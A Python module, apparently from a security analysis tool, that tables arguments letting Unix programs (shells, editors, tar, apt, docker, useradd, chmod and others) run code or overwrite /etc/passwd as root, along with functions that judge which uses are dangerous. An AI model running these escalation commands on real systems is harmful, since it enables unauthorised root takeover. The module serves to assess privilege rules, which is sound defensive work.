# SPDX-License-Identifier: Apache-2.0
"""Programs that do as root whatever their caller likes, each by a documented feature of its own.

Either they run another program, or they write any file. The table holds arguments that are enough;
what is not in it is unknown, but for a few programs that do one thing alone. Sources: the manual
pages of the programs, https://manpages.debian.org/bookworm/
"""

import re
from collections.abc import Mapping

from msgspec import Struct

from bartizan.reason.host import place

_SHELLS = "sh bash dash ash zsh ksh mksh fish csh tcsh"
_CODE = "-c code"
_TO_FILE = "/own/x /etc/passwd"
_RUN = "/own/x"

_ARGUMENTS: Mapping[str, str] = {
    **dict.fromkeys(place.words(_SHELLS), _CODE),
    **dict.fromkeys(place.words("python python2 python3"), _CODE),
    **dict.fromkeys(place.words("perl ruby lua node php"), "-e code"),
    **dict.fromkeys(place.words("awk gawk mawk nawk"), 'BEGIN {system("/own/x")}'),
    **dict.fromkeys(
        place.words(
            "env nice nohup setsid stdbuf xargs watch strace ltrace ionice unshare setpriv"
        ),
        _RUN,
    ),
    **dict.fromkeys(
        place.words("vi vim vim.basic vim.tiny view nvim nano emacs ed ex"), "/etc/passwd"
    ),
    **dict.fromkeys(place.words("less more most man pg"), "/etc/services"),
    **dict.fromkeys(place.words("cp mv install ln"), _TO_FILE),
    **dict.fromkeys(place.words("tee visudo vipw"), "/etc/passwd"),
    "apt": "update -o APT::Update::Pre-Invoke::=/own/x",
    "apt-get": "update -o APT::Update::Pre-Invoke::=/own/x",
    "chmod": "u+s /bin/bash",
    "chown": "me /etc/passwd",
    "chpasswd": "",
    "chroot": "/own /x",
    "crontab": _RUN,
    "curl": "-o /etc/passwd file:///own/x",
    "dd": "if=/own/x of=/etc/passwd",
    "debugfs": "-w /dev/sda1",
    "dnf": "install /own/x.rpm",
    "docker": "run -v /:/host image",
    "dpkg": "-i /own/x.deb",
    "find": ". -exec /own/x ;",
    "flock": "/own/y /own/x",
    "gdb": "-ex !/own/x",
    "git": "-c core.pager=/own/x -p log",
    "make": "-f /own/x",
    "mount": "--bind /own/x /etc",
    "mysql": "-e code",
    "nmap": "--script /own/x",
    "nsenter": "-t 1 -m /own/x",
    "passwd": "root",
    "pip": "install /own/x",
    "pip3": "install /own/x",
    "pkexec": _RUN,
    "podman": "run -v /:/host image",
    "psql": "-c code",
    "puppet": "apply /own/x.pp",
    "rpm": "-i /own/x.rpm",
    "rsync": "-e /own/x /own/y host:/z",
    "runuser": "-u root /own/x",
    "screen": "",
    "script": "-c /own/x",
    "sed": "-i s/x/y/ /etc/passwd",
    "ssh": "-o ProxyCommand=/own/x host",
    "su": "-c /own/x",
    "sudo": _RUN,
    "systemctl": "link /own/x.service",
    "systemd-run": _RUN,
    "tar": "cf /own/y /own/z --checkpoint=1 --checkpoint-action=exec=/own/x",
    "taskset": "1 /own/x",
    "time": _RUN,
    "timeout": "9 /own/x",
    "tmux": "",
    "useradd": "-o -u 0 -p hash x",
    "usermod": "-o -u 0 me",
    "wget": "-O /etc/passwd http://host/x",
    "yum": "install /own/x.rpm",
    "zip": "/own/y /own/z -T -TT /own/x",
}
"""Name to arguments that are enough."""

_BARE = place.words(
    f"{_SHELLS} python python2 python3 perl ruby lua node php su vi vim vim.basic vim.tiny nvim "
    "nano emacs ed ex visudo vipw screen tmux passwd mysql psql chpasswd"
)
"""What needs no arguments."""
_ASKS = place.words(
    "vi vim vim.basic vim.tiny view nvim emacs ed ex nano less more most man visudo vipw screen "
    "tmux "
    "gdb"
)
"""What takes commands from whoever sits before it, whatever its arguments were."""
_APPENDED: Mapping[str, str] = {
    "apt": "-o APT::Update::Pre-Invoke::=/own/x",
    "apt-get": "-o APT::Update::Pre-Invoke::=/own/x",
    "find": "-exec /own/x ;",
    "rsync": "-e /own/x",
    "tar": "--checkpoint=1 --checkpoint-action=exec=/own/x",
    "zip": "-T -TT /own/x",
    **dict.fromkeys(place.words("cp mv install ln tee"), "/etc/passwd"),
}
"""What is as good behind arguments that somebody else chose."""
_HARMLESS = place.words("id whoami true false uptime uname hostname date tty logname groups")
"""What tells something without arguments, and nothing that is secret."""
_VERSION = re.compile(r"(?<=[a-z])[0-9.]+")
_STOCK = frozenset({"/bin", "/usr/bin", "/sbin", "/usr/sbin"})
_FOLDERS = _STOCK | {"/usr/local/bin", "/usr/local/sbin", "/opt/puppetlabs/bin", "/snap/bin"}
"""Where systems put programs."""


class Use(Struct, frozen=True):
    """One way to use a program."""

    path: str
    arguments: str

    def __str__(self) -> str:
        """Write it as a command line."""
        return f"{self.path} {self.arguments}".rstrip()


ANYTHING = Use("/own/x", "")
"""A program that the attacker wrote, under a path that no rule names."""


def basename(path: str) -> str:
    """Return the name of a program, without a version: that of `python3.11` is `python`."""
    name = path.rpartition("/")[2]
    bare_name = _VERSION.sub("", name)
    return bare_name if name not in _ARGUMENTS and bare_name in _ARGUMENTS else name


def named(path: str) -> str:
    """Return the name under which the tables have a program; empty for one that lies where
    systems do not put programs, and may be anything.
    """
    return basename(path) if path.rpartition("/")[0] in _FOLDERS else ""


def free(path: str) -> Use | None:
    """Return a use with arguments of one's choice after which one does anything."""
    arguments = _ARGUMENTS.get(named(path))
    return None if arguments is None else Use(path, arguments)


def bare(path: str) -> Use | None:
    """Return the use without arguments, where one does anything after it."""
    return Use(path, "") if named(path) in _BARE else None


def fixed(path: str, arguments: str) -> Use | None:
    """Return the use with just these arguments, where one does anything after it."""
    return Use(path, arguments) if named(path) in _ASKS else None


def appended(path: str, before: str) -> Use | None:
    """Return a use whose arguments begin with `before` after which one does anything."""
    more = _APPENDED.get(named(path))
    return None if more is None else Use(path, f"{before}x {more}")


def harmless(path: str, arguments: str | None) -> bool:
    """Tell whether a program is known to give nothing away: with `arguments`, None for any."""
    name = named(path)
    if name in _HARMLESS:
        return name != "date" or not arguments
    # Without arguments these do nothing of use.
    return arguments == "" and name in _ARGUMENTS and name not in _BARE


def in_folder(folder: str) -> Use | None:
    """Return a use of a program that is in a folder on every system."""
    return free(f"{folder}/find") if folder in _STOCK else None
